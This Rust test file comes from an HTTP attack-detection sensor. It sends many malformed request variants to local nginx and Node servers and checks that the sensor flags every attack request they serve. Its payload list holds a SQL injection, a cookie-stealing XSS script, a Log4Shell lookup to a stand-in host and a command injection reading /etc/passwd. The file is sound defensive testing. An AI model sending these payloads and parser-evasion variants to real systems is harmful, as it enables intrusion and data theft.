//! Differential test against a real nginx (Debian's `nginx-light`, default settings): every
//! request nginx serves must be flagged by the sensor's parser and built-in detector.
//!
//! A generated set of odd-but-possibly-served requests (each oddity × attack payloads × the
//! place the payload sits: path, query, a header, a cookie, the body) is sent raw over TCP to
//! nginx (`location / { return 200 "served\n"; }`), one connection per request, the write side
//! half-closed so nginx answers everything it parsed and then closes. The same bytes go through
//! the sensor as the capture path feeds them: [`Reassembler`] (segments of one MSS, from the
//! connection's first byte) and [`Detector::builtin`].
//!
//! - nginx answered a status other than 400/414/431/505 to the request carrying the payload:
//!   the sensor must flag it, or the test fails listing it (served but missed).
//! - nginx refused it: recorded in the table only (the sensor may flag it or not, but must not
//!   crash).
//! - benign variants (no payload) served by nginx must not be flagged (false positives).
//!
//! The same matrix runs against Node's `http` server (`node_served_requests_are_flagged`).
//! Needs `nginx` and `node` (scripts/setup.sh installs nginx-light and nodejs). Without them the
//! tests say so and pass, except under `CI=true`, where they fail.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{IpAddr, Shutdown, TcpStream};
use std::time::Duration;

use palisade_sensor::config::ReassemblyConfig;
use palisade_sensor::detect::Detector;
use palisade_sensor::http::ParseLimits;
use palisade_sensor::reassembly::{FlowKey, Reassembler, Segment};
use palisade_tests::nginx::Nginx;

/// Statuses that mean nginx refused the request (its handler did not run).
const REFUSED: &[u16] = &[400, 414, 431, 505];
/// Segment size the sensor is fed with (an Ethernet MSS).
const MSS: usize = 1448;

/// Attack payloads, raw (encoded per placement), and one benign control.
const PAYLOADS: &[(&str, &str)] = &[
    ("sqli", "1' union select password from users--"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
    ("rce", "x;cat /etc/passwd"),
];
const BENIGN: (&str, &str) = ("benign", "summer sale 2024");

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Place {
    Path,
    Query,
    Header,
    Cookie,
    Body,
}

const PLACES: &[Place] = &[
    Place::Path,
    Place::Query,
    Place::Header,
    Place::Cookie,
    Place::Body,
];

impl Place {
    fn name(self) -> &'static str {
        match self {
            Place::Path => "path",
            Place::Query => "query",
            Place::Header => "header",
            Place::Cookie => "cookie",
            Place::Body => "body",
        }
    }
}

/// Percent-encode everything but the unreserved characters.
fn pct(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// One request, in parts an oddity can bend.
#[derive(Debug, Clone)]
struct Req {
    prefix: Vec<u8>,
    method: String,
    sp1: String,
    target: String,
    sp2: String,
    /// Empty: HTTP/0.9 form (no version, no header lines).
    version: String,
    trail: String,
    headers: Vec<Vec<u8>>,
    /// Line end of the request line and the blank line.
    eol: &'static [u8],
    /// Line end of the header lines.
    header_eol: &'static [u8],
    body: Vec<u8>,
    chunked: bool,
    lower_framing: bool,
    upper_te: bool,
}

impl Req {
    fn new(place: Place, payload: &str) -> Req {
        let mut req = Req {
            prefix: Vec::new(),
            method: "GET".into(),
            sp1: " ".into(),
            target: "/shop/items".into(),
            sp2: " ".into(),
            version: "HTTP/1.1".into(),
            trail: String::new(),
            headers: vec![
                b"Host: example.test".to_vec(),
                b"User-Agent: Mozilla/5.0 (X11; Linux x86_64)".to_vec(),
                b"Accept: */*".to_vec(),
            ],
            eol: b"\r\n",
            header_eol: b"\r\n",
            body: Vec::new(),
            chunked: false,
            lower_framing: false,
            upper_te: false,
        };
        match place {
            Place::Path => req.target = format!("/shop/{}", pct(payload)),
            Place::Query => req.target = format!("/shop/items?q={}&page=2", pct(payload)),
            Place::Header => req.headers.push(format!("X-Data: {payload}").into_bytes()),
            Place::Cookie => req
                .headers
                .push(format!("Cookie: theme=dark; sid={}", pct(payload)).into_bytes()),
            Place::Body => {
                req.method = "POST".into();
                req.headers
                    .push(b"Content-Type: application/x-www-form-urlencoded".to_vec());
                req.body = format!("q={}&page=2", pct(payload)).into_bytes();
            }
        }
        req
    }

    fn bytes(&self) -> Vec<u8> {
        let mut out = self.prefix.clone();
        out.extend_from_slice(self.method.as_bytes());
        out.extend_from_slice(self.sp1.as_bytes());
        out.extend_from_slice(self.target.as_bytes());
        if self.version.is_empty() {
            out.extend_from_slice(self.eol);
            return out;
        }
        out.extend_from_slice(self.sp2.as_bytes());
        out.extend_from_slice(self.version.as_bytes());
        out.extend_from_slice(self.trail.as_bytes());
        out.extend_from_slice(self.eol);
        for h in &self.headers {
            out.extend_from_slice(h);
            out.extend_from_slice(self.header_eol);
        }
        let (cl, te, chunked) = match (self.lower_framing, self.upper_te) {
            (true, _) => ("content-length", "transfer-encoding", "chunked"),
            (false, true) => ("Content-Length", "TRANSFER-ENCODING", "CHUNKED"),
            (false, false) => ("Content-Length", "Transfer-Encoding", "chunked"),
        };
        if self.chunked {
            out.extend_from_slice(format!("{te}: {chunked}").as_bytes());
            out.extend_from_slice(self.header_eol);
        } else if !self.body.is_empty() || self.method == "POST" {
            out.extend_from_slice(format!("{cl}: {}", self.body.len()).as_bytes());
            out.extend_from_slice(self.header_eol);
        }
        out.extend_from_slice(self.eol);
        if self.chunked {
            for chunk in self.body.chunks(7) {
                out.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
                out.extend_from_slice(chunk);
                out.extend_from_slice(b"\r\n");
            }
            out.extend_from_slice(b"0\r\n\r\n");
        } else {
            out.extend_from_slice(&self.body);
        }
        out
    }
}

/// A benign request sent before the attack on the same connection.
fn benign_first(kind: &str) -> Vec<u8> {
    match kind {
        "get" => b"GET /index.html HTTP/1.1\r\nHost: example.test\r\n\r\n".to_vec(),
        "post" => {
            b"POST /form HTTP/1.1\r\nHost: example.test\r\nContent-Length: 7\r\n\r\na=1&b=2".to_vec()
        }
        _ => b"POST /form HTTP/1.1\r\nHost: example.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\na=1\r\n4\r\n&b=2\r\n0\r\n\r\n"
            .to_vec(),
    }
}

fn pad_headers(req: &mut Req, at: usize, count: usize, len: usize) {
    for i in 0..count {
        let mut line = format!("X-Pad-{i}: ").into_bytes();
        line.resize(len, b'p');
        req.headers.insert(at.min(req.headers.len()), line);
    }
}

/// An oddity: bends the request for a placement, or `None` when it does not apply there.
/// Returns the connection's bytes and the index of the request carrying the payload.
type Oddity = (&'static str, fn(Req, Place) -> Option<(Vec<u8>, usize)>);

fn one(req: Req) -> Option<(Vec<u8>, usize)> {
    Some((req.bytes(), 0))
}

fn oddities() -> Vec<Oddity> {
    vec![
        ("baseline", |r, _| one(r)),
        ("HTTP/1.0", |mut r, _| {
            r.version = "HTTP/1.0".into();
            one(r)
        }),
        ("HTTP/1.2", |mut r, _| {
            r.version = "HTTP/1.2".into();
            one(r)
        }),
        ("HTTP/1.10", |mut r, _| {
            r.version = "HTTP/1.10".into();
            one(r)
        }),
        ("HTTP/1.0001", |mut r, _| {
            r.version = "HTTP/1.0001".into();
            one(r)
        }),
        ("http/1.1 (lower case)", |mut r, _| {
            r.version = "http/1.1".into();
            one(r)
        }),
        ("HTTP/2.0", |mut r, _| {
            r.version = "HTTP/2.0".into();
            one(r)
        }),
        ("HTTP/0.9 (explicit, with headers)", |mut r, _| {
            r.version = "HTTP/0.9".into();
            one(r)
        }),
        ("HTTP/0.9 (no version)", |mut r, p| {
            if !matches!(p, Place::Path | Place::Query) {
                return None;
            }
            r.version = String::new();
            one(r)
        }),
        ("runs of spaces in the request line", |mut r, _| {
            r.sp1 = "   ".into();
            r.sp2 = "  ".into();
            r.trail = "   ".into();
            one(r)
        }),
        ("tab in the request line", |mut r, _| {
            r.sp1 = "\t".into();
            one(r)
        }),
        ("leading blank lines", |mut r, _| {
            r.prefix = b"\r\n\r\n\n".to_vec();
            one(r)
        }),
        ("bare LF line ends", |mut r, _| {
            r.eol = b"\n";
            r.header_eol = b"\n";
            one(r)
        }),
        ("CR CR LF after header lines", |mut r, _| {
            r.header_eol = b"\r\r\n";
            one(r)
        }),
        ("unknown method", |mut r, _| {
            r.method = "PURGE_X-Y".into();
            one(r)
        }),
        ("40-byte method", |mut r, _| {
            r.method = "A".repeat(40);
            one(r)
        }),
        ("lower-case method", |mut r, _| {
            r.method = r.method.to_lowercase();
            one(r)
        }),
        ("header name X@Y", |mut r, _| {
            r.headers.insert(1, b"X@Y: 1".to_vec());
            one(r)
        }),
        ("header names with _ and .", |mut r, p| {
            r.headers.insert(1, b"X_Y: 1".to_vec());
            r.headers.insert(1, b"X.Y: 1".to_vec());
            if p == Place::Header {
                let last = r.headers.len() - 1;
                r.headers[last] = r.headers[last].replacen(b"X-Data", b"X_Data");
            }
            one(r)
        }),
        ("non-ASCII header name", |mut r, _| {
            r.headers.insert(1, b"X-\xc3\xa9t\xc3\xa9: 1".to_vec());
            one(r)
        }),
        ("header line without colon", |mut r, _| {
            r.headers.insert(1, b"nocolon".to_vec());
            one(r)
        }),
        ("space before colon", |mut r, _| {
            r.headers.insert(1, b"X-A : 1".to_vec());
            one(r)
        }),
        ("obs-fold", |mut r, _| {
            r.headers.insert(1, b"X-A: 1\r\n  folded".to_vec());
            one(r)
        }),
        ("NUL in a header value", |mut r, _| {
            r.headers.insert(1, b"X-A: a\x00b".to_vec());
            one(r)
        }),
        ("bare CR in a header value", |mut r, _| {
            r.headers.insert(1, b"X-A: a\rb".to_vec());
            one(r)
        }),
        ("upper-case header names", |mut r, _| {
            for h in &mut r.headers {
                if let Some(c) = h.iter().position(|&b| b == b':') {
                    h[..c].make_ascii_uppercase();
                }
            }
            r.lower_framing = false;
            one(r)
        }),
        ("tab after the colon", |mut r, _| {
            // Not in Host: nginx 1.22 keeps the tab in the value and refuses the host.
            for h in r.headers.iter_mut().skip(1) {
                *h = h.replacen(b": ", b":\t");
            }
            one(r)
        }),
        ("raw # before the query", |mut r, p| {
            match p {
                Place::Query => r.target = r.target.replacen("/items?", "/items#top?", 1),
                Place::Path => r.target = r.target.replacen("/shop/", "/shop#top/", 1),
                _ => r.target.push_str("#top"),
            }
            one(r)
        }),
        ("raw # after the query", |mut r, _| {
            r.target.push_str(if r.target.contains('?') {
                "#frag"
            } else {
                "?a=1#frag"
            });
            one(r)
        }),
        ("absolute-form target", |mut r, _| {
            r.target = format!("http://example.test{}", r.target);
            one(r)
        }),
        ("absolute-form, odd scheme and port", |mut r, _| {
            r.target = format!("HTTPS+X.y-z://EXAMPLE.test:8080{}", r.target);
            one(r)
        }),
        ("path nginx normalises (//, /./, /../)", |mut r, _| {
            r.target = format!("//static/./img/..{}", r.target);
            one(r)
        }),
        ("%2e%2e segment", |mut r, _| {
            r.target = format!("/static/%2e%2e{}", r.target);
            one(r)
        }),
        ("request line near nginx's 8 KiB", |mut r, p| {
            let pad = "a".repeat(8000 - r.target.len());
            r.target = match p {
                Place::Query => r.target.replacen('?', &format!("?pad={pad}&"), 1),
                _ => format!("{}?pad={pad}", r.target),
            };
            one(r)
        }),
        ("request line over nginx's 8 KiB", |mut r, p| {
            let pad = "a".repeat(9000);
            r.target = match p {
                Place::Query => r.target.replacen('?', &format!("?pad={pad}&"), 1),
                _ => format!("{}?pad={pad}", r.target),
            };
            one(r)
        }),
        ("20 KiB of headers before", |mut r, _| {
            pad_headers(&mut r, 1, 20, 1000);
            one(r)
        }),
        ("30 KiB of headers after", |mut r, _| {
            let n = r.headers.len();
            pad_headers(&mut r, n, 30, 1000);
            one(r)
        }),
        ("40 KiB head (over nginx's limit)", |mut r, _| {
            let n = r.headers.len();
            pad_headers(&mut r, n, 40, 1000);
            one(r)
        }),
        ("600 header lines", |mut r, _| {
            pad_headers(&mut r, 1, 600, 12);
            one(r)
        }),
        ("pipelined after a GET", |r, _| {
            let mut bytes = benign_first("get");
            bytes.extend(r.bytes());
            Some((bytes, 1))
        }),
        ("pipelined after a POST", |r, _| {
            let mut bytes = benign_first("post");
            bytes.extend(r.bytes());
            Some((bytes, 1))
        }),
        ("pipelined after a chunked POST", |r, _| {
            let mut bytes = benign_first("chunked");
            bytes.extend(r.bytes());
            Some((bytes, 1))
        }),
        ("framing headers in lower case", |mut r, p| {
            if p != Place::Body {
                return None;
            }
            r.lower_framing = true;
            one(r)
        }),
        ("chunked body", |mut r, p| {
            if p != Place::Body {
                return None;
            }
            r.chunked = true;
            one(r)
        }),
        ("TRANSFER-ENCODING: CHUNKED", |mut r, p| {
            if p != Place::Body {
                return None;
            }
            r.chunked = true;
            r.upper_te = true;
            one(r)
        }),
    ]
}

trait ReplaceN {
    fn replacen(&self, from: &[u8], to: &[u8]) -> Vec<u8>;
}

impl ReplaceN for Vec<u8> {
    fn replacen(&self, from: &[u8], to: &[u8]) -> Vec<u8> {
        match self.windows(from.len()).position(|w| w == from) {
            Some(i) => [&self[..i], to, &self[i + from.len()..]].concat(),
            None => self.clone(),
        }
    }
}

/// Send `raw` on a fresh connection, half-close, and read until nginx closes.
fn exchange(port: u16, raw: &[u8]) -> Vec<u8> {
    let Ok(mut conn) = TcpStream::connect(("127.0.0.1", port)) else {
        return Vec::new();
    };
    // Hang guard only: nginx answers in milliseconds.
    let _ = conn.set_read_timeout(Some(Duration::from_secs(30)));
    let _ = conn.write_all(raw);
    let _ = conn.shutdown(Shutdown::Write);
    let mut out = Vec::new();
    let _ = conn.read_to_end(&mut out);
    out
}

/// Whether nginx served request `index` of the connection, from its answers in order: a status
/// line per HTTP/1.x response (`Content-Length` framed), or a bare body for HTTP/0.9.
fn served(answer: &[u8], index: usize) -> bool {
    let mut rest = answer;
    for i in 0.. {
        if rest.is_empty() {
            return false;
        }
        if !rest.starts_with(b"HTTP/") {
            // HTTP/0.9: no status line, the body only.
            return i == index && rest.starts_with(b"served");
        }
        let status: u16 = std::str::from_utf8(rest.get(9..12).unwrap_or_default())
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        if i == index {
            return status != 0 && !REFUSED.contains(&status);
        }
        let Some(head_end) = rest.windows(4).position(|w| w == b"\r\n\r\n") else {
            return false;
        };
        let head = String::from_utf8_lossy(&rest[..head_end]).to_ascii_lowercase();
        let len: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .and_then(|v| v.trim().parse().ok())
            .unwrap_or(0);
        rest = rest.get(head_end + 4 + len..).unwrap_or_default();
    }
    false
}

/// Feed `raw` to the sensor as capture does (MSS segments from the connection's first byte)
/// and return the rule ids it fired.
fn sensor_flags(detector: &Detector, raw: &[u8]) -> Vec<String> {
    let mut reassembler = Reassembler::new(ReassemblyConfig::default(), ParseLimits::default());
    let key = FlowKey {
        src: "198.51.100.7".parse::<IpAddr>().expect("literal address"),
        src_port: 40000,
        dst: "127.0.0.1".parse::<IpAddr>().expect("literal address"),
        dst_port: 80,
    };
    let isn: u32 = 0xfff0_0000;
    let mut rules = Vec::new();
    let chunks: Vec<&[u8]> = raw.chunks(MSS).collect();
    for (i, chunk) in chunks.iter().enumerate() {
        let seq = isn.wrapping_add((i * MSS) as u32);
        reassembler.push(
            key,
            Segment {
                seq,
                len: chunk.len() as u32,
                data: chunk,
                end: i + 1 == chunks.len(),
                now_ns: 0,
                established: true,
                stream_start: Some(isn),
            },
            |_, request, _| {
                rules.extend(detector.inspect(&request).into_iter().map(|d| d.rule_id));
            },
        );
    }
    rules
}

#[derive(Default)]
struct Row {
    sent: usize,
    served: usize,
    flagged: usize,
    refused: usize,
    refused_flagged: usize,
    benign_served: usize,
    false_positives: usize,
}

fn escape(raw: &[u8]) -> String {
    let text: String = raw.escape_ascii().to_string();
    if text.len() > 240 {
        format!("{}... ({} bytes)", &text[..240], raw.len())
    } else {
        text
    }
}

/// What one server did with the generated requests, against the sensor.
struct Outcome {
    missed: Vec<String>,
    false_positives: Vec<String>,
    /// Attack requests of the baseline (no oddity) sent and served.
    baseline: (usize, usize),
}

/// Send every generated request to the server on `port`, feed it to the sensor, print the table.
fn differential(server: &str, port: u16, detector: &Detector) -> Outcome {
    let mut table: BTreeMap<usize, (&str, Row)> = BTreeMap::new();
    let mut missed = Vec::new();
    let mut false_positives = Vec::new();
    let payloads: Vec<(&str, &str)> = PAYLOADS
        .iter()
        .copied()
        .chain(std::iter::once(BENIGN))
        .collect();

    for (n, (name, build)) in oddities().into_iter().enumerate() {
        let row = &mut table.entry(n).or_insert_with(|| (name, Row::default())).1;
        for &place in PLACES {
            for &(kind, payload) in &payloads {
                let Some((raw, index)) = build(Req::new(place, payload), place) else {
                    continue;
                };
                let answer = exchange(port, &raw);
                let was_served = served(&answer, index);
                let rules = sensor_flags(detector, &raw);
                let flagged = !rules.is_empty();
                let what = format!("{server}: {name} / {} / {kind}", place.name());
                if kind == BENIGN.0 {
                    if was_served {
                        row.benign_served += 1;
                        if flagged {
                            row.false_positives += 1;
                            false_positives
                                .push(format!("{what}: {rules:?}\n    {}", escape(&raw)));
                        }
                    }
                    continue;
                }
                row.sent += 1;
                match (was_served, flagged) {
                    (true, true) => {
                        row.served += 1;
                        row.flagged += 1;
                    }
                    (true, false) => {
                        row.served += 1;
                        missed.push(format!("{what}\n    {}", escape(&raw)));
                    }
                    (false, f) => {
                        row.refused += 1;
                        row.refused_flagged += usize::from(f);
                    }
                }
            }
        }
    }

    println!("differential against {server}, default settings");
    println!(
        "{:<40} {:>5} {:>7} {:>8} {:>7} {:>9} {:>7} {:>4}",
        "oddity", "sent", "served", "flagged", "refused", "ref+flag", "benign", "fp"
    );
    let mut totals = Row::default();
    for (name, row) in table.values() {
        println!(
            "{:<40} {:>5} {:>7} {:>8} {:>7} {:>9} {:>7} {:>4}",
            name,
            row.sent,
            row.served,
            row.flagged,
            row.refused,
            row.refused_flagged,
            row.benign_served,
            row.false_positives
        );
        totals.sent += row.sent;
        totals.served += row.served;
        totals.flagged += row.flagged;
        totals.refused += row.refused;
        totals.benign_served += row.benign_served;
        totals.false_positives += row.false_positives;
    }
    println!(
        "{server}: {} attack requests, {} served, {} of them flagged; {} refused; {} benign served, {} flagged\n",
        totals.sent,
        totals.served,
        totals.flagged,
        totals.refused,
        totals.benign_served,
        totals.false_positives
    );
    let baseline = table
        .values()
        .find(|(name, _)| *name == "baseline")
        .map_or((0, 0), |(_, row)| (row.sent, row.served));
    Outcome {
        missed,
        false_positives,
        baseline,
    }
}

/// Fail on every served-but-missed and every flagged benign request.
fn check(outcome: &Outcome, server: &str, log: &str) {
    // The comparison means something only if the server serves plain requests.
    let (sent, served) = outcome.baseline;
    assert!(
        sent > 0 && served == sent,
        "{server} served {served} of {sent} plain requests: is it answering?\n{log}"
    );
    assert!(
        outcome.missed.is_empty(),
        "{} requests {server} served were not flagged by the sensor:\n{}",
        outcome.missed.len(),
        outcome.missed.join("\n")
    );
    assert!(
        outcome.false_positives.is_empty(),
        "{} benign requests were flagged:\n{}",
        outcome.false_positives.len(),
        outcome.false_positives.join("\n")
    );
}

#[test]
fn nginx_served_requests_are_flagged() {
    let nginx = match Nginx::start(r#"location / { return 200 "served\n"; }"#) {
        Ok(n) => n,
        Err(err) => {
            let why = format!("nginx could not start ({err:#}); run scripts/setup.sh");
            palisade_tests::skip_because("nginx_served_requests_are_flagged", Some(why));
            return;
        }
    };
    let detector = Detector::builtin().expect("built-in rules compile");
    let server = Nginx::version().unwrap_or_else(|| "nginx".into());
    let outcome = differential(&server, nginx.port(), &detector);
    check(&outcome, &server, &nginx.error_log());
}

/// A Node.js `http` server answering 200 to everything (killed on drop).
struct NodeServer {
    child: std::process::Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl NodeServer {
    fn start() -> anyhow::Result<NodeServer> {
        use anyhow::Context as _;
        let dir = tempfile::tempdir()?;
        let script = dir.path().join("server.js");
        std::fs::write(
            &script,
            "const http = require('http');\n\
             http.createServer((req, res) => res.end('served\\n'))\n\
             \x20 .listen(+process.argv[2], '127.0.0.1');\n",
        )?;
        let port = palisade_tests::free_port()?;
        let child = std::process::Command::new("node")
            .arg(&script)
            .arg(port.to_string())
            .stdout(std::process::Stdio::null())
            .spawn()
            .context("starting node (scripts/setup.sh installs nodejs)")?;
        let mut node = NodeServer {
            child,
            port,
            _dir: dir,
        };
        // Hang guard only.
        let deadline = std::time::Instant::now() + Duration::from_secs(30);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            if let Some(status) = node.child.try_wait()? {
                anyhow::bail!("node exited early with {status}");
            }
            anyhow::ensure!(
                std::time::Instant::now() < deadline,
                "node did not listen within 30 s"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        Ok(node)
    }

    fn version() -> String {
        std::process::Command::new("node")
            .arg("--version")
            .output()
            .map(|o| format!("node {}", String::from_utf8_lossy(&o.stdout).trim()))
            .unwrap_or_else(|_| "node".into())
    }
}

impl Drop for NodeServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The same against Node's `http` server (llhttp): stricter than nginx, so mostly a subset,
/// but it serves what nginx drops (`X_Y` headers reach the handler).
#[test]
fn node_served_requests_are_flagged() {
    let node = match NodeServer::start() {
        Ok(n) => n,
        Err(err) => {
            let why = format!("node could not start ({err:#}); run scripts/setup.sh");
            palisade_tests::skip_because("node_served_requests_are_flagged", Some(why));
            return;
        }
    };
    let detector = Detector::builtin().expect("built-in rules compile");
    let server = NodeServer::version();
    let outcome = differential(&server, node.port, &detector);
    check(&outcome, &server, "");
}
